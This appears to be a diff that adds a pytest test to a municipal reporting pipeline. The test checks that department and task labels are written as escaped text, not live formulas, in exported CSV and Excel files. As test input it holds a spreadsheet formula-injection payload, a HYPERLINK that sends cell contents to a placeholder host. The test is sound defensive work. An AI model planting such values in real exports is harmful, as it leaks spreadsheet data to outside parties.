@@ -553,3 +553,22 @@ def test_a_komhen_export_imported_as_a_baseline_gives_every_cell_back(
     stored = {(r[0], r[1], r[2]): r[3] for r in store.query(
         f"SELECT task, channel, direction, inquiries FROM {DB}.baseline_latest WHERE name = 'round_trip'").rows}
     assert stored == dict(expected)
+
+
+def test_a_label_from_a_source_cannot_run_as_a_formula_in_the_komhen_files(tmp_path: Path) -> None:
+    """A case system's department or task label of '=HYPERLINK(...)' is text in the CSV and the
+    workbook, never a formula Excel runs when the tovholder opens the file."""
+    from pipeline.reports.komhen import KomhenCell, KomhenWeek
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
+    cell = KomhenCell(task="05.13.00", task_label=evil, department="@SUM(1+1)", channel="phone", direction="inbound",
+                      inquiries=3, abandoned=0, resolution_known=0, resolved=0, resolution_pending=0,
+                      web_first_known=0, web_first=0, requesters={"citizen": 3})
+    csv_file, xlsx_file = write_komhen(KomhenWeek(WEEK, "751", [cell], []), tmp_path)
+    with open(csv_file, encoding="utf-8", newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert (row["Opgave"], row["Afdeling"]) == ("'" + evil, "'@SUM(1+1)")
+    book = load_workbook(xlsx_file)
+    cells = [c for sheet in book for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert any(c.value == "'" + evil for c in cells)
